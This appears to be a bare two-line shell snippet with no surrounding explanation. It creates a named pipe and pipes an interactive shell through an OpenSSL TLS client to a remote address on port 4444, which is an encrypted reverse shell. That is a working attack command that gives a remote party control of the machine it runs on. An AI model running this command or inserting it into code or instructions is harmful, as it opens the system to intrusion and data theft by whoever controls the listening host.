mkfifo /tmp/pipe
sh -i < /tmp/pipe 2>&1 | openssl s_client -quiet -connect 192.0.2.7:4444 > /tmp/pipe
